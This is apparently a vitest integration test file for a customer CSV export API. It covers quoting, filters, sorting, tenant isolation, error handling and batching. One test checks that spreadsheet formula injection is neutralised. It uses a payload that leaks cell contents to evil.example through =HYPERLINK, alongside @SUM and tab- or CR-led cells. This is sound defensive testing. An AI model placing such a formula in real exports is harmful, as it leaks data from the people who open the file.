import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { prisma } from "@/lib/db/prisma";
import { newId } from "@/lib/ids";
import { apiClient, createTestWorkspace, type TestWorkspace } from "@/test/support/api-client";
import { startApiServer, type ApiServer } from "@/test/support/api-server";

const HEADER = "id,externalId,email,name,phone,taxId,createdAt,archivedAt,metadata";

let server: ApiServer;
beforeAll(async () => {
  server = await startApiServer();
});
afterAll(() => server?.stop());

type Api = ReturnType<typeof apiClient>;

async function freshApi(): Promise<{ api: Api; workspace: TestWorkspace }> {
  const workspace = await createTestWorkspace();
  return { api: apiClient(server.url, workspace.testKey), workspace };
}

async function exportCsv(api: Api, query = "", path = "/api/v1/customers/export") {
  const response = await api.get<string>(`${path}${query}`);
  expect(response.status).toBe(200);
  const records: string[][] = parse(response.body);
  expect(records[0]).toEqual(HEADER.split(","));
  return { response, text: response.body, rows: records.slice(1) };
}

type Seed = {
  email?: string;
  name?: string | null;
  createdAt?: Date;
  archivedAt?: Date | null;
  livemode?: boolean;
};

/** Customers straight into the database, for control over createdAt and mode. */
async function insertCustomers(workspaceId: string, seeds: Seed[]): Promise<string[]> {
  const data = seeds.map((seed, i) => ({
    id: newId("customer", (seed.createdAt ?? new Date()).getTime()),
    workspaceId,
    livemode: seed.livemode ?? false,
    email: seed.email ?? null,
    emailNormalized: seed.email?.toLowerCase() ?? null,
    name: seed.name === undefined ? `Customer ${i}` : seed.name,
    createdAt: seed.createdAt,
    archivedAt: seed.archivedAt ?? null,
  }));
  await prisma.customer.createMany({ data });
  return data.map((row) => row.id);
}

describe("GET /customers/export", () => {
  it("streams CSV with the right headers, an exact header row, CRLF and empty cells for nulls", async () => {
    const { api, workspace } = await freshApi();
    const empty = await exportCsv(api);
    expect(empty.text).toBe(`${HEADER}\r\n`);
    expect(empty.response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(empty.response.headers.get("content-disposition")).toBe('attachment; filename="customers.csv"');
    expect(empty.response.headers.get("request-id")).toMatch(/^req_/);

    const [id] = await insertCustomers(workspace.workspaceId, [
      { name: null, createdAt: new Date("2026-03-04T05:06:07.089Z") },
    ]);
    const { text } = await exportCsv(api);
    expect(text).toBe(`${HEADER}\r\n${id},,,,,,2026-03-04T05:06:07.089Z,,{}\r\n`);
  });

  it("round-trips commas, quotes, CR, LF, unicode and emoji exactly, quoted per RFC 4180", async () => {
    const { api } = await freshApi();
    const name = 'Zoë "Z" O\'Brien, Jr.\r\nline two\nline three\rline four 日本語 🎉';
    const metadata = { note: 'a,b "c"\r\nd', emoji: "👩‍💻🇮🇩", 'key,"quoted"': "ü\n" };
    const created = await api.post("/api/v1/customers", {
      name,
      email: "zoë@example.com",
      externalId: "crm\n1", // a lone LF or CR must be quoted too, not only CRLF
      taxId: "tax\r7",
      metadata,
    });
    expect(created.status).toBe(201);
    const customer = created.body;
    await api.patch(`/api/v1/customers/${customer.id}`, { archived: true });
    const archived = (await api.get(`/api/v1/customers/${customer.id}`)).body;

    const { text, rows } = await exportCsv(api, "?archived=true");
    expect(text).toContain(`,"${name.replaceAll('"', '""')}",`);
    expect(text).toContain(`,"crm\n1",`);
    expect(text).toContain(`,"tax\r7",`);
    expect(rows).toHaveLength(1);
    const [row] = rows;
    expect(row.slice(0, 8)).toEqual([
      customer.id,
      "crm\n1",
      "zoë@example.com",
      name,
      "",
      "tax\r7",
      customer.createdAt,
      archived.archivedAt,
    ]);
    expect(archived.archivedAt).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    expect(JSON.parse(row[8])).toEqual(metadata);
  });

  it("prefixes cells that a spreadsheet would run as formulas with a single quote", async () => {
    const { api, workspace } = await freshApi();
    const hyperlink = '=HYPERLINK("https://evil.example/?x="&A1,"Click")';
    const created = await api.post("/api/v1/customers", {
      name: hyperlink,
      externalId: "+1",
      taxId: "-1",
      phone: "+6281234567",
      metadata: { formula: "=1+1" },
    });
    expect(created.status).toBe(201);
    await api.post("/api/v1/customers", { name: "@SUM(A1:A9)" });
    // The API trims text, so leading tab and CR only reach the database another way.
    await insertCustomers(workspace.workspaceId, [{ name: "\t=1+1", createdAt: new Date("2020-01-01") }]);
    await insertCustomers(workspace.workspaceId, [{ name: "\rcmd", createdAt: new Date("2020-01-02") }]);

    const { rows } = await exportCsv(api);
    expect(rows.map((row) => row[3]).sort()).toEqual(
      [`'\t=1+1`, `'\rcmd`, `'${hyperlink}`, "'@SUM(A1:A9)"].sort(),
    );
    const row = rows.find(([id]) => id === created.body.id)!;
    expect(row.slice(1, 6)).toEqual(["'+1", "", `'${hyperlink}`, "'+6281234567", "'-1"]);
    expect(JSON.parse(row[8])).toEqual({ formula: "=1+1" }); // a JSON cell starts with {
  });

  it("applies the list's filters and sort", async () => {
    const { api, workspace } = await freshApi();
    const [early, middle, late, archived] = await insertCustomers(workspace.workspaceId, [
      { email: "Early@Example.com", name: "Bob", createdAt: new Date("2026-01-10T00:00:00Z") },
      { email: "middle@example.com", name: "Alice Wonder", createdAt: new Date("2026-02-10T00:00:00Z") },
      { email: "late@example.com", name: "Carol", createdAt: new Date("2026-03-10T00:00:00Z") },
      {
        email: "gone@example.com",
        name: "Dave",
        createdAt: new Date("2026-02-20T00:00:00Z"),
        archivedAt: new Date("2026-02-21T00:00:00Z"),
      },
    ]);
    const ids = async (query: string) => (await exportCsv(api, query)).rows.map((row) => row[0]);

    expect(await ids("")).toEqual([late, middle, early]);
    expect(await ids("?sort=createdAt")).toEqual([early, middle, late]);
    expect(await ids("?sort=name")).toEqual([middle, early, late]);
    expect(await ids("?email=EARLY%40example.com")).toEqual([early]);
    expect(await ids("?q=wonder")).toEqual([middle]);
    expect(await ids("?archived=true")).toEqual([archived]);
    expect(await ids("?archived=all")).toEqual([late, archived, middle, early]);
    expect(await ids("?createdFrom=2026-02-10")).toEqual([late, middle]);
    expect(await ids("?createdFrom=2026-02-01&createdTo=2026-02-28&archived=all")).toEqual([
      archived,
      middle,
    ]);
  });

  it("never shows another workspace's or the other mode's customers", async () => {
    const { api, workspace } = await freshApi();
    const other = await freshApi();
    const [mine] = await insertCustomers(workspace.workspaceId, [{ email: "me@example.com" }]);
    const [live] = await insertCustomers(workspace.workspaceId, [
      { email: "me@example.com", livemode: true },
    ]);
    await insertCustomers(other.workspace.workspaceId, [{ email: "me@example.com" }]);

    expect((await exportCsv(api)).rows.map((row) => row[0])).toEqual([mine]);
    const liveApi = apiClient(server.url, workspace.liveKey);
    expect((await exportCsv(liveApi)).rows.map((row) => row[0])).toEqual([live]);
  });

  it("answers a bad query with a 400 JSON error, not CSV", async () => {
    const { api } = await freshApi();
    for (const [query, code, param] of [
      ["?sort=bogus", "parameter_invalid", "sort"],
      ["?createdFrom=yesterday", "parameter_invalid", "createdFrom"],
      ["?limit=10", "parameter_unknown", "limit"],
      ["?cursor=abc", "parameter_unknown", "cursor"],
    ]) {
      const response = await api.get(`/api/v1/customers/export${query}`);
      expect(response.status).toBe(400);
      expect(response.headers.get("content-type")).toMatch(/^application\/json/);
      expect(response.body.error).toMatchObject({ type: "invalid_request_error", code, param });
    }
    const anonymous = await apiClient(server.url).get("/api/v1/customers/export");
    expect(anonymous.status).toBe(401);
    expect(anonymous.body.error.code).toBe("invalid_api_key");
  });

  it("exports 2,500 customers exactly once each, in order, across batches and sorts", async () => {
    const { api, workspace } = await freshApi();
    const base = Date.parse("2026-01-01T00:00:00Z");
    // Timestamps shared by three customers each, names shared and a third null: ties and the
    // NULL segment fall across batch boundaries.
    await insertCustomers(
      workspace.workspaceId,
      Array.from({ length: 2500 }, (_, i) => ({
        createdAt: new Date(base + Math.floor(i / 3) * 1000),
        name: i % 3 === 0 ? null : `Name ${i % 700}`,
        email: `c${i}@example.com`,
      })),
    );
    const stored = await prisma.customer.findMany({ where: { workspaceId: workspace.workspaceId } });
    const newestFirst = stored
      .sort((a, b) => b.createdAt.getTime() - a.createdAt.getTime() || (a.id < b.id ? 1 : -1))
      .map((row) => row.id);

    const { rows } = await exportCsv(api);
    expect(rows.map((row) => row[0])).toEqual(newestFirst);

    for (const sort of ["name", "-name"]) {
      const listed: string[] = [];
      let cursor = "";
      do {
        const page = await api.get(`/api/v1/customers?limit=100&sort=${sort}${cursor}`);
        listed.push(...page.body.data.map((customer: { id: string }) => customer.id));
        cursor = page.body.nextCursor ? `&cursor=${page.body.nextCursor}` : "";
      } while (cursor);
      const exported = (await exportCsv(api, `?sort=${sort}`)).rows.map((row) => row[0]);
      expect(new Set(exported).size).toBe(2500);
      expect(exported).toEqual(listed);
    }
  });

  it("answers at the /v1 alias too", async () => {
    const { api, workspace } = await freshApi();
    const [id] = await insertCustomers(workspace.workspaceId, [{ email: "alias@example.com" }]);
    const { response, rows } = await exportCsv(api, "", "/v1/customers/export");
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(rows.map((row) => row[0])).toEqual([id]);
  });
});
